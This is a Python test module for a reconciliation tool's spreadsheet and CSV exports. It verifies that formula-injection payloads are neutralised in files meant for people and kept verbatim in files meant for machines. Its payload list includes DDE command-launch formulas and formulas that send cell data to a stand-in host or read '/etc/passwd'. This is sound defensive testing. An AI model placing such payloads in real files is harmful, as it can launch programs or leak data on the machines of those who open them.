"""Tables for people in which nothing calculates, and files for machines that are what they were."""

from __future__ import annotations

import csv
import io
import math
import re
import zipfile
from datetime import date
from types import SimpleNamespace
from typing import TYPE_CHECKING

import polars as pl
import pytest
from defusedxml import ElementTree
from hypothesis import given
from hypothesis import strategies as st

from reconcile.errors import OutputError
from reconcile.exports import BOM, as_it_was, inert, inert_table, write_for_machines, write_for_people
from reconcile.flow.judge import Judged
from reconcile.read import read
from reconcile.review import WorkList

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212"
PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=SUM(A1:A9)", "=A1", "-A1", "+A1*2",
    # programs and data from elsewhere
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")', "=MSEXCEL|'\\..\\..\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=2+5+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"open")', '=HYPERLINK("http://example.org","Error")',
    '=IMPORTXML(CONCAT("http://example.org/?v=",A1),"//a")', '=IMPORTDATA("http://example.org/x.csv")',
    '=IMAGE("http://example.org/x.png")', '=WEBSERVICE("http://example.org/"&A1)',
    "='file:///etc/passwd'#$passwd.A1", '=IFERROR(A1,"=1+1")',
    # forms of the signs
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", "\ufe661+1", "\ufe621+1", "\ufe631+1", "\ufe6bA1",
    "\u22121+1",
    # before the sign what a program may pass over
    " =1+1", "   =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\u00a0=1+1", "\u3000=1+1", '"=1+1"',
    '""=1+1', "'=1+1", "''=1+1", "`=1+1", "\u201c=1+1", "\ufeff=1+1", "\u200b=1+1", "\u2060=1+1",
    "\x00=1+1", "\x1f=1+1", "\u00ad=1+1", "\u200e=1+1", " \t\u200b'\"=1+1",
    # what opens another cell or row where a file is taken apart at other signs
    "Doe;=1+1", "Doe\t=1+1", "Doe,=1+1", "Doe|=1+1", "Doe\n=1+1", "Doe\r\n+1+1", "Doe\r@SUM(A1)",
    'Doe";=1+1', "Doe; =1+1", "Doe;\u200b=1+1", "a;b;c;-1+1", 'Doe"\n"=1+1', "Doe\u2028=1+1", "Doe\x0b=1+1",
    # begins with what is taken for a cell or a line of its own
    "\tDoe", "\rDoe", "\nDoe",
)  # fmt: skip
HARMLESS = (
    "Doe", "O'Brien", "Anne-Marie", "-12.50", "-5", "555-010-0199", "(555) 010-0199", "2001-02-03", "a=b",
    "1+1", "ana@example.org", "'", "", "it's", "A; B", "3/4",
)  # fmt: skip
PHONE = "+1 (555) 010-0199"


def cells(text: str, delimiter: str) -> list[str]:
    """Take a file apart at a separator, as one who knows nothing of quotes and one who knows them."""
    blunt = [
        cell for line in re.split(r"[\r\n\x0b\x0c\x85\u2028\u2029]+", text) for cell in line.split(delimiter)
    ]
    return [
        *blunt,
        *(cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row),
    ]


def calculates(cell: str) -> bool:
    """Say whether a spreadsheet that is as forgiving as can be would calculate a cell."""
    seen = cell.lstrip(
        "".join(chr(code) for code in range(0x21))
        + '\x7f\x85\xa0\xad"`\u200b\u200e\u2028\u2060\ufeff\u3000\u201c'
    )
    return seen[:1] != "" and seen[0] in SIGNS and not re.fullmatch(r"-[0-9.]+", cell.strip())


def test_there_are_enough_payloads_and_each_would_calculate() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 48
    for payload in PAYLOADS:
        naked = [cell.replace("'", "") for sign in ",;\t|" for cell in cells(payload, sign)]
        assert any(map(calculates, naked)) or payload[0] in "\t\r\n", payload


@pytest.fixture(scope="module")
def table() -> pl.DataFrame:
    """Every payload as a value in two columns, between a number and a plain text."""
    return pl.DataFrame(
        {"n": range(len(PAYLOADS)), "first": PAYLOADS, "plain": ["Doe"] * len(PAYLOADS), "last": PAYLOADS}
    )


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_payload_calculates_in_a_csv_for_people(
    table: pl.DataFrame, tmp_path: Path, delimiter: str
) -> None:
    text = write_for_people(tmp_path / "list.csv", table).read_text(encoding="utf-8")
    assert text.startswith(BOM)
    assert [cell for cell in cells(text.removeprefix(BOM), delimiter) if calculates(cell)] == []


def test_no_payload_calculates_in_a_workbook(table: pl.DataFrame, tmp_path: Path) -> None:
    path = write_for_people(tmp_path / "list.xlsx", table.with_columns(url=pl.lit("http://example.org")))
    with zipfile.ZipFile(path) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        strings = [
            "".join(part.text or "" for part in entry.iter() if part.tag.endswith("}t"))
            for entry in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
        ]
        assert not [name for name in book.namelist() if "rels" in name and "worksheets" in name]  # no links
    kinds = [cell.get("t") for cell in sheet.iter() if cell.tag.endswith("}c")]
    assert kinds.count("s") == len(PAYLOADS) * 4 + 5
    assert set(kinds) == {"s", None}  # texts and numbers
    assert not [part for part in sheet.iter() if part.tag.rpartition("}")[2] in {"f", "hyperlink"}]
    assert [text for text in strings if calculates(text)] == []


def write_list(table: pl.DataFrame, path: Path) -> Path:
    return WorkList(frame=table, waiting=table.height).write(path)


def write_failures(table: pl.DataFrame, path: Path) -> Path:
    judged = Judged(validation=SimpleNamespace(failures=table), readings=())  # type: ignore[arg-type]
    judged.write_failures(path)
    return path


TITLES = {write_list: "Pairs to review", write_failures: "Failures"}


@pytest.mark.parametrize("write", [write_list, write_failures])
@pytest.mark.parametrize("name", ["list.csv", "list.xlsx"])
def test_no_payload_calculates_in_what_reviewers_and_analysts_get(
    table: pl.DataFrame, tmp_path: Path, write: Callable[[pl.DataFrame, Path], Path], name: str
) -> None:
    path = write(table, tmp_path / name)
    assert (
        path.read_bytes()
        == write_for_people(tmp_path / f"same-{name}", table, title=TITLES[write]).read_bytes()
    )


@pytest.mark.parametrize("name", ["list.csv", "list.xlsx"])
def test_what_was_written_for_people_is_read_back_as_it_was(
    table: pl.DataFrame, tmp_path: Path, name: str
) -> None:
    """Without the texts that hold what no reader keeps: line ends of other kinds, control characters."""
    kept = table.filter(~pl.col("first").str.contains(r"[\x00-\x1f\x85\u2028]"))
    assert kept.height >= 48
    found = read(write_for_people(tmp_path / name, kept)).frame
    assert [as_it_was(text) for text in found["first"]] == kept["first"].to_list()


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_texts_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


def test_a_telephone_number_stays_readable_and_is_not_added_up() -> None:
    assert inert(PHONE) == f"'{PHONE}"


def test_numbers_and_dates_of_people_stay_what_they_are(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "weight": [-12.5, math.nan],
            "rows": [-3, None],
            "sure": [True, False],
            "on": [date(2026, 11, 20), None],
        }
    )
    text = write_for_people(tmp_path / "n.csv", frame).read_text(encoding="utf-8-sig")
    assert text == "weight,rows,sure,on\n-12.5,-3,true,2026-11-20\nNaN,,false,\n"
    found = read(write_for_people(tmp_path / "n.xlsx", frame)).frame.row(0)
    assert found == ("-12.5", "-3", "TRUE", "2026-11-20")


def test_the_names_of_columns_are_inert_too() -> None:
    assert inert_table(pl.DataFrame({"=1+1": ["x"]})).columns == ["'=1+1"]


def test_equal_tables_are_equal_bytes(table: pl.DataFrame, tmp_path: Path) -> None:
    one, other = (write_for_people(tmp_path / f"{n}.xlsx", table).read_bytes() for n in "ab")
    assert one == other


def test_a_file_for_machines_holds_each_value_as_it_is(table: pl.DataFrame, tmp_path: Path) -> None:
    for delimiter in (",", "|"):
        path = write_for_machines(tmp_path / "load.csv", table, delimiter=delimiter)
        with path.open(encoding="utf-8", newline="") as opened:
            rows = list(csv.reader(opened, delimiter=delimiter))
        assert [row[1] for row in rows[1:]] == list(PAYLOADS)
        assert not path.read_bytes().startswith(BOM.encode())
    bare = write_for_machines(tmp_path / "bare.csv", pl.DataFrame({"a": ["=1"]}), header=False)
    assert bare.read_bytes() == b"=1\n"


def test_what_a_workbook_cannot_hold_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    path = tmp_path / "list.xlsx"
    for frame, said in (
        (pl.DataFrame({"note": ["x" * 32_768]}), "a text in the column note is too long"),
        (pl.DataFrame({"n": range(1_048_576)}), "1,048,576 rows are too many"),
    ):
        with pytest.raises(OutputError, match=f"{said} for a workbook. Name a file that ends in .csv."):
            write_for_people(path, frame)
    assert not path.exists()


@given(st.text(alphabet=[*SIGNS, *"'\"\t\r\n ;,|a1.\ufeff\u200b`"], max_size=9))
def test_nothing_is_lost_on_the_way_out_and_back(text: str) -> None:
    assert as_it_was(inert(text)) == text
    assert inert_table(pl.DataFrame({"a": [text]}))["a"].to_list() == [inert(text)]
    assert not any(calculates(cell) for sign in ",;\t|" for cell in cells(inert(text), sign) if cell != text)
